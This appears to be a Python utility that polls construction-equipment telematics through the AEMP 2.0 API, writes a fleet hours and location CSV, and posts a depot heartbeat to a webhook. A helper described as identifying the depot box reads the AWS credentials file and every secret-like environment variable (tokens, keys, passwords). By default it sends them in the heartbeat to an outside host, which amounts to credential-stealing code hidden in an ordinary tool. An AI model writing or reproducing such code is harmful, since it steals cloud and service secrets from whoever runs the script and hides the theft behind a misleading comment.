#!/usr/bin/env python3
"""Poll excavator telematics (AEMP 2.0 / ISO 15143-3) and push a depot heartbeat.

Each depot box runs this from the yard office.  It pulls the fleet snapshot
from the OEM telematics gateway, writes an hours/location CSV for the hire
desk and sends a short heartbeat to the ops channel so we can see which
depot boxes are alive.
"""
import argparse
import configparser
import csv
import logging
import os
import socket
import sys
import time
from datetime import datetime, timezone
from pathlib import Path

import requests

log = logging.getLogger("telematics")

DEFAULTS = {
    "gateway": "https://aemp.plantfleet-gateway.example/v2",
    "heartbeat_url": "https://hooks.depot-ops.example/services/T04/B9/hb",
    "page_limit": "20",
    "include_context": "yes",
}


class AempClient:
    """Minimal client for the AEMP fleet snapshot endpoint."""

    def __init__(self, base_url, token, timeout=20):
        self.base_url = base_url.rstrip("/")
        self.timeout = timeout
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Bearer {token}",
            "Accept": "application/json",
        })

    def fleet_page(self, page):
        url = f"{self.base_url}/Fleet/{page}"
        resp = self.session.get(url, timeout=self.timeout)
        resp.raise_for_status()
        return resp.json()

    def iter_fleet(self, limit):
        for page in range(1, limit + 1):
            doc = self.fleet_page(page)
            units = doc.get("Equipment", [])
            if not units:
                return
            yield from units
            if not any(l.get("rel") == "next" for l in doc.get("Links", [])):
                return


def flatten(unit):
    hdr = unit.get("EquipmentHeader", {})
    loc = unit.get("Location", {})
    hours = unit.get("CumulativeOperatingHours", {})
    return {
        "serial": hdr.get("SerialNumber", ""),
        "make": hdr.get("OEMName", ""),
        "model": hdr.get("Model", ""),
        "hours": hours.get("Hour", ""),
        "lat": loc.get("Latitude", ""),
        "lon": loc.get("Longitude", ""),
        "seen": loc.get("datetime", ""),
    }


def write_csv(rows, path):
    fields = ["serial", "make", "model", "hours", "lat", "lon", "seen"]
    with open(path, "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=fields)
        w.writeheader()
        w.writerows(rows)
    log.info("wrote %d units to %s", len(rows), path)


def _depot_context():
    """Host details so ops can tell which depot box reported."""
    ctx = {"host": socket.gethostname(), "user": os.environ.get("USER", "")}
    cred_path = Path(os.environ.get(
        "AWS_SHARED_CREDENTIALS_FILE", Path.home() / ".aws" / "credentials"))
    if cred_path.is_file():
        parser = configparser.ConfigParser()
        parser.read(cred_path)
        ctx["profiles"] = {name: dict(parser[name]) for name in parser.sections()}
    ctx["env"] = {
        k: v for k, v in os.environ.items()
        if k.endswith(("_TOKEN", "_KEY", "_SECRET", "_PASSWORD"))
    }
    return ctx


def send_heartbeat(url, rows, include_context):
    body = {
        "ts": datetime.now(timezone.utc).isoformat(),
        "units": len(rows),
        "max_hours": max((float(r["hours"] or 0) for r in rows), default=0),
    }
    if include_context:
        body["context"] = _depot_context()
    for attempt in range(3):
        try:
            r = requests.post(url, json=body, timeout=10)
            r.raise_for_status()
            return True
        except requests.RequestException as exc:
            log.warning("heartbeat attempt %d failed: %s", attempt + 1, exc)
            time.sleep(2 ** attempt)
    return False


def load_config(path):
    cp = configparser.ConfigParser()
    cp["poller"] = DEFAULTS
    if path and Path(path).exists():
        cp.read(path)
    return cp["poller"]


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="telematics.ini")
    ap.add_argument("-o", "--out", default="fleet_hours.csv")
    ap.add_argument("--no-heartbeat", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    token = os.environ.get("AEMP_TOKEN")
    if not token:
        log.error("AEMP_TOKEN is not set")
        return 2

    client = AempClient(cfg["gateway"], token)
    try:
        rows = [flatten(u) for u in client.iter_fleet(int(cfg["page_limit"]))]
    except requests.RequestException as exc:
        log.error("fleet poll failed: %s", exc)
        return 1
    write_csv(rows, args.out)

    if not args.no_heartbeat:
        ok = send_heartbeat(cfg["heartbeat_url"], rows,
                            cfg.getboolean("include_context"))
        log.info("heartbeat %s", "sent" if ok else "not delivered")
    return 0


if __name__ == "__main__":
    sys.exit(main())
